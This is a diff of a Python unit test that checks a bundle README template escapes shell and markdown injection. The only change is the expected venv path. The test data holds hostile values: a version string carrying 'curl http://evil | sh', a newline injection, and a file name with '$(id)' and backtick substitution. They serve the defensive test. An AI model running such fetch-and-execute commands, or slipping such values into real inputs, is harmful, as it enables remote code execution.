@@ -535,7 +535,7 @@ def test_the_bundle_readme_quotes_shell_lines_and_markdown() -> None:
     snap = changed(lock(), "python", version="3.11; curl http://evil | sh #.7")
     snap = dataclasses.replace(snap, envsnap=dataclasses.replace(snap.envsnap, generator="x\n# Owned"))
     text = _templates.render("bundle/README.md.j2", lock=snap, packages=list(snap.python.packages), conda_archives=[])
-    assert "    'python3.11; curl http://evil | sh #' -m venv ./env" in text
+    assert "    'python3.11; curl http://evil | sh #' -m venv ../envsnap-env" in text
     assert not any(line.startswith("# Owned") for line in text.splitlines())
     conda = _templates.render("bundle/README.md.j2", lock=snap, packages=[], conda_archives=['a"$(id)`x`.conda'])
     assert '"file://$PWD/conda/a\\"\\$(id)\\`x\\`.conda"' in conda
